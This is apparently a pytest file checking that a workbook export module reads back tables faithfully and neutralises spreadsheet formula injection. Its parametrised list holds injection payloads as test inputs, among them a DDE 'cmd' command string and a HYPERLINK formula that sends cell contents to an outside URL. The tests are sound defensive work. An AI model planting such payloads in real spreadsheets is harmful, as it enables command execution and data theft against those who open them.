"""What is written for a spreadsheet is read back as it was, and nothing of it can be a formula."""

import io
import zipfile
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kesher.formats.workbooks import DANGEROUS, LONGEST, harmless, workbook


def cells(content: bytes) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def test_a_table_is_read_back() -> None:
    moment = datetime(2026, 5, 3, 9, 30, 1, 5, tzinfo=ZoneInfo("Asia/Jerusalem"))
    rows = [["אלמז", 3, True, date(2026, 5, 3), moment], ["أحمد", None, False, None, None]]
    content = workbook("People: all", columns=["Name", "n", "?", "Day", "At"], rows=rows, right_to_left=True)
    assert cells(content) == [
        ["Name", "n", "?", "Day", "At"],
        ["אלמז", 3, True, datetime(2026, 5, 3), datetime(2026, 5, 3, 9, 30, 1)],
        ["أحمد", None, False, None, None],
    ]
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.active.title == "People  all"
    assert book.active.sheet_view.rightToLeft
    assert book.active.freeze_panes == "A2"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://example.org/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\u200f=1",
        "\u202e=1",
        "\x00=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "|calc",
    ],
)
def test_no_text_is_a_formula(text: str) -> None:
    content = workbook("T", columns=["a"], rows=[[text]])
    assert str(cells(content)[1][0]).startswith("'")
    inside = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert not {"<f>", "<f "} & {inside[at : at + 3] for at in range(len(inside))}
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].data_type == "s"


def test_columns_are_no_formulas_either() -> None:
    assert cells(workbook("=x", columns=["=A1"], rows=[])) == [["'=A1"]]


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=40))
def test_any_text_can_be_written_and_begins_with_nothing_dangerous(text: str) -> None:
    shown = harmless(text)
    assert shown[:1] not in DANGEROUS
    assert shown.strip()[:1] not in DANGEROUS
    assert cells(workbook("T", columns=["a", "b"], rows=[[text, 1]]))[1][1] == 1


def test_what_is_too_long_for_a_cell_is_cut() -> None:
    assert len(str(cells(workbook("T", columns=["a"], rows=[["x" * 40_000]]))[1][0])) == LONGEST
